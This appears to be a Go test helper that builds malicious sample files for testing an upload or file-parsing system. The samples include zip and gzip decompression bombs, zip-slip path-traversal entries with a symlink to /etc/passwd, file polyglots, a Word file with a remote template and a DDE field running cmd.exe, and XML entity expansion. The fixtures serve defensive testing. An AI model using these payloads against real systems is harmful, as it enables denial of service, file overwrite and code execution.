package hostile_test

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"io"
	"io/fs"
	"strings"
	"testing"

	"recourse/internal/testkit/photo"
)

// made are files that a program would be needed to write down.
func made(t *testing.T, kind string) []byte {
	t.Helper()
	maker, ok := makers[kind]
	if !ok {
		t.Fatalf("nobody makes a %q", kind)
	}
	return maker(t)
}

var makers = map[string]func(t *testing.T) []byte{
	"zip-bomb": func(t *testing.T) []byte {
		return zipped(t, entry{name: "zeros.bin", body: io.LimitReader(zeros{}, 16<<20)})
	},
	"zip-nested": func(t *testing.T) []byte {
		b := []byte("at the bottom")
		for range 6 {
			var same []entry
			for n := range 8 {
				same = append(same, entry{name: fmt.Sprint(n, ".zip"), body: bytes.NewReader(b)})
			}
			b = zipped(t, same...)
		}
		return b
	},
	"zip-overlapping": overlapping, // 64 GiB
	"zip-slip": func(t *testing.T) []byte {
		var all []entry
		for _, name := range []string{"../../../../tmp/slipped", "/tmp/slipped", `..\..\slipped`, "a\x00b", "C:/slipped"} {
			all = append(all, entry{name: name, body: strings.NewReader("x")})
		}
		return zipped(t, append(all, entry{"link", fs.ModeSymlink | 0o777, strings.NewReader("/etc/passwd")}, entry{"device", fs.ModeDevice | 0o600, strings.NewReader("")})...)
	},
	"zip-many": func(t *testing.T) []byte { // more than the counts of the old form hold
		var all []entry
		for i := range 70_000 {
			all = append(all, entry{name: fmt.Sprint("same", i%7)})
		}
		return zipped(t, all...)
	},
	"zip-lying": func(t *testing.T) []byte {
		b := zipped(t, entry{name: "small.txt", body: strings.NewReader("longer than it says")})
		list := bytes.LastIndex(b, []byte("PK\x01\x02"))
		binary.LittleEndian.PutUint32(b[list+24:], 1) // unpacked
		return b
	},
	"zip-wrapped": func(t *testing.T) []byte {
		b := zipped(t, entry{name: "a.txt", body: strings.NewReader("a")})
		end := bytes.LastIndex(b, []byte("PK\x05\x06"))
		for i := end + 8; i < end+20; i++ {
			b[i] = 0xff // counts and places of the old form, which say: see the new one, that is not there
		}
		return b
	},
	"zip-locked": func(t *testing.T) []byte {
		b := zipped(t, entry{name: "a.txt", body: strings.NewReader("a")})
		b[6] |= 1
		b[bytes.LastIndex(b, []byte("PK\x01\x02"))+8] |= 1
		return b
	},
	"gzip-bomb": func(t *testing.T) []byte {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		if _, err := io.Copy(w, io.LimitReader(zeros{}, 16<<20)); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	},
	"pdf-and-zip": func(t *testing.T) []byte {
		return append([]byte("%PDF-1.4\n"+strings.Repeat("% words\n", 600)+"%%EOF\n"), zipped(t, entry{name: "a.txt", body: strings.NewReader("a")})...)
	},
	"pdf-and-late-page": func(*testing.T) []byte {
		return []byte("%PDF-1.4\n" + strings.Repeat("% words\n", 600) + "%%EOF\n<html><script>alert(1)</script>")
	},
	"jpeg-and-jar": func(t *testing.T) []byte {
		return append(photo.JPEG(1), zipped(t, entry{name: "META-INF/MANIFEST.MF", body: strings.NewReader("Main-Class: Invented\n")})...)
	},
	"docx-and-hta": func(t *testing.T) []byte {
		return append(document(t), "<hta:application id=x><script>alert(1)</script>"...)
	},
	"docx-remote": func(t *testing.T) []byte {
		return document(t, entry{name: "word/_rels/settings.xml.rels", body: strings.NewReader(`<Relationships><Relationship Type="attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>`)})
	},
	"docx-dde": func(t *testing.T) []byte {
		return document(t, entry{name: "word/fields.xml", body: strings.NewReader(`<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>`)})
	},
	"docx-entities": func(t *testing.T) []byte {
		return document(t, entry{name: "word/extra.xml", body: strings.NewReader(`<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>`)})
	},
	"jpeg-of-64k": func(*testing.T) []byte {
		return []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c")
	},
	"gif-of-many": func(*testing.T) []byte {
		const frame = "\x21\xf9\x04\x00\x00\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
		return []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff" + strings.Repeat(frame, 300) + ";")
	},
	"png-of-words": func(t *testing.T) []byte { // a text that unpacks to 64 MiB
		var b bytes.Buffer
		w := zlib.NewWriter(&b)
		if _, err := io.Copy(w, io.LimitReader(zeros{}, 16<<20)); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		p := []byte("\x89PNG\r\n\x1a\n")
		p = photo.Chunk(p, "IHDR", []byte("\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00"))
		p = photo.Chunk(p, "zTXt", append([]byte("Comment\x00\x00"), b.Bytes()...))
		p = photo.Chunk(p, "iCCP", append([]byte("profile\x00\x00"), b.Bytes()...))
		p = photo.Chunk(p, "IDAT", []byte("\x78\x9c\x63\x60\x00\x00\x00\x02\x00\x01"))
		return photo.Chunk(p, "IEND", nil)
	},
}

type entry struct {
	name string
	mode fs.FileMode
	body io.Reader
}

func zipped(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, e := range entries {
		head := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		head.SetMode(e.mode | 0o600)
		if e.body == nil {
			head.Method = zip.Store
		}
		w, err := z.CreateHeader(head)
		if err == nil && e.body != nil {
			_, err = io.Copy(w, e.body)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// document is a Word file as far as anybody sniffs it.
func document(t *testing.T, more ...entry) []byte {
	t.Helper()
	return zipped(t, append([]entry{
		{name: "[Content_Types].xml", body: strings.NewReader(`<Types/>`)}, {name: "_rels/.rels", body: strings.NewReader(`<Relationships/>`)},
		{name: "word/document.xml", body: strings.NewReader(`<w:document/>`)},
	}, more...)...)
}

// overlapping lists one packed entry of 16 MiB four thousand times.
func overlapping(t *testing.T) []byte {
	t.Helper()
	b := zipped(t, entry{name: "zeros.bin", body: io.LimitReader(zeros{}, 16<<20)})
	list := bytes.LastIndex(b, []byte("PK\x01\x02"))
	end := bytes.LastIndex(b, []byte("PK\x05\x06"))
	one, tail := bytes.Clone(b[list:end]), bytes.Clone(b[end:])
	b = append(b[:list:list], bytes.Repeat(one, 4000)...)
	binary.LittleEndian.PutUint16(tail[8:], 4000)
	binary.LittleEndian.PutUint16(tail[10:], 4000)
	binary.LittleEndian.PutUint32(tail[12:], uint32(4000*len(one)))
	return append(b, tail...)
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }
